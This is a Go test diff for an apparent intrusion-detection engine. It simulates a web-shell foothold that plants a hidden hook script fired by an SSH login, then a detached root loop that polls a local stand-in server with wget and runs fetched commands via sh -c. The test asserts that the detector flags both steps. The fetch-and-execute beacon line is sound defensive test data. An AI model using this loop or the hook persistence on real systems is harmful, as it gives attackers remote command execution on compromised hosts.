@@ -185,3 +185,34 @@ func TestMarkerAfterLanding(t *testing.T) {
 		})
 	}
 }
+
+// TestTaskLoopDetachedByPlant: a plant's hook that starts its beacon loop
+// with setsid -f leaves the loop under init; the loop is adopted by its
+// launcher's argv first, and is still the plant's fork, so its polls make
+// it the plant's channel and its tasks the implant's (shop-specsheet: a
+// pam_exec hook fired by the admin's ssh login).
+func TestTaskLoopDetachedByPlant(t *testing.T) {
+	e, s := webShellScene(t)
+	const hook = "/var/tmp/.d/hook.sh"
+	e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "mkdir -p /var/tmp/.d && echo aWQK | base64 -d > "+hook), s.tree)
+	s.t = s.t.Add(time.Minute)
+	s.exec(600, 1, 0, "root", "/", "/usr/sbin/sshd", "sshd: alice [priv]")
+	run := e.Observe(s.exec(601, 600, 0, "root", "/", "/usr/bin/dash", "/bin/sh", hook), s.tree)
+	if findingOf(run, RulePlantedFileRun) == nil {
+		t.Fatalf("the hook's run by sshd: %v, want the plant firing", ids(run))
+	}
+	loop := `while :; do c=$(wget -q -O- -T 5 http://127.0.0.1:8088/t/1); if [ -n "$c" ]; then sh -c "$c" > /dev/shm/.r 2>&1; fi; sleep 2; done`
+	e.Observe(s.exec(602, 601, 0, "root", "/", "/usr/bin/setsid", "setsid", "-f", "/bin/sh", "-c", loop), s.tree)
+	e.Observe(s.exec(603, 1, 0, "root", "/", "/usr/bin/dash", "/bin/sh", "-c", loop), s.tree)
+	pid := 610
+	for range 3 {
+		s.t = s.t.Add(2 * time.Second)
+		e.Observe(s.exec(pid, 603, 0, "root", "/", "/usr/bin/wget", "wget", "-q", "-O-", "-T", "5", "http://127.0.0.1:8088/t/1"), s.tree)
+		e.Observe(s.connect(pid, 603, 0, "/usr/bin/wget", "127.0.0.1", 8088), s.tree)
+		pid++
+	}
+	task := e.Observe(s.exec(pid, 603, 0, "root", "/", "/usr/bin/dash", "sh", "-c", "id; hostname"), s.tree)
+	if f := findingOf(task, "reverse-shell-channel-command"); f == nil || f.Title != "Task Run By An Implant" {
+		t.Fatalf("the loop's task: %v, want a task of the plant's loop", ids(task))
+	}
+}
